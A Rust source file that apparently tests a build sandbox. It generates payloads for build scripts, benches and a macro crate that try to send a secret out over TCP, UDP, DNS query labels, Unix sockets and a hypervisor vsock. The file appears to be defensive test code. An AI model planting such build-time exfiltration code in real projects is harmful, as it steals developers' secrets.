//! Attacks that talk to somebody.

use std::path::Path;

use super::{Fought, arena::Arena, reads::stolen};

/// Says the prize to whoever answers at `stream`, and waits until it was heard.
const SAY: &str = "
fn say(mut stream: impl std::io::Read + std::io::Write) {
    let _ = stream.write_all(prize().as_bytes());
    let _ = stream.read(&mut [0; 5]);
}
";

fn payload(body: &str) -> String {
    format!("{SAY}\nfn attack() {{\n{body}\n}}\n")
}

pub fn tcp(arena: &Arena) -> Fought {
    arena.build_script(Path::new(""), &payload("TcpStream::connect(TCP).map(say).unwrap_or(());"));
    stolen(arena)
}

const DATAGRAM: &str = "
    let Ok(socket) = std::net::UdpSocket::bind(\"0.0.0.0:0\") else { return };
    let _ = socket.set_read_timeout(Some(Duration::from_secs(2)));
    let _ = socket.send_to(&message(), TARGET);
    let _ = socket.recv(&mut [0; 5]);
";

pub fn udp(arena: &Arena) -> Fought {
    let target = arena.ears.udp().to_string();
    let message = "fn message() -> Vec<u8> {\n    prize().into_bytes()\n}\n";
    arena.bench(Path::new(&target), &(payload(DATAGRAM) + message));
    stolen(arena)
}

/// What is stolen is the name that is asked for.
pub fn dns(arena: &Arena) -> Fought {
    let target = arena.ears.udp().to_string();
    let message = "
fn message() -> Vec<u8> {
    let mut query = vec![0x13, 0x37, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in [prize().as_str(), \"example\", \"org\"] {
        query.push(label.len() as u8);
        query.extend(label.as_bytes());
    }
    query.extend([0, 0, 1, 0, 1]);
    query
}
";
    arena.macro_crate(Path::new(&target), &(payload(DATAGRAM) + message));
    stolen(arena)
}

pub fn abstract_socket(arena: &Arena) -> Fought {
    let name = format!("t5-arena-{:016x}", fastrand::u64(..));
    arena.ears.abstract_name(&name);
    let body = "
    use std::os::{linux::net::SocketAddrExt, unix::net::{SocketAddr, UnixStream}};
    let address = SocketAddr::from_abstract_name(TARGET).unwrap();
    UnixStream::connect_addr(&address).map(say).unwrap_or(());
";
    arena.bench(Path::new(&name), &payload(body));
    stolen(arena)
}

pub fn path_socket(arena: &Arena) -> Fought {
    let path = arena.path("service.sock");
    arena.ears.path(&path);
    let body = "std::os::unix::net::UnixStream::connect(TARGET).map(say).unwrap_or(());";
    arena.build_script(&path, &payload(body));
    stolen(arena)
}

/// Such sockets know no network namespace: whoever has one can talk to the hypervisor.
pub fn hypervisor(arena: &Arena) -> Fought {
    let attack = "
extern \"C\" {
    fn socket(family: i32, kind: i32, protocol: i32) -> i32;
}
fn attack() {
    const AF_VSOCK: i32 = 40;
    if unsafe { socket(AF_VSOCK, 1, 0) } >= 0 {
        tell(&prize());
    }
}
";
    arena.bench(Path::new(""), attack);
    stolen(arena)
}
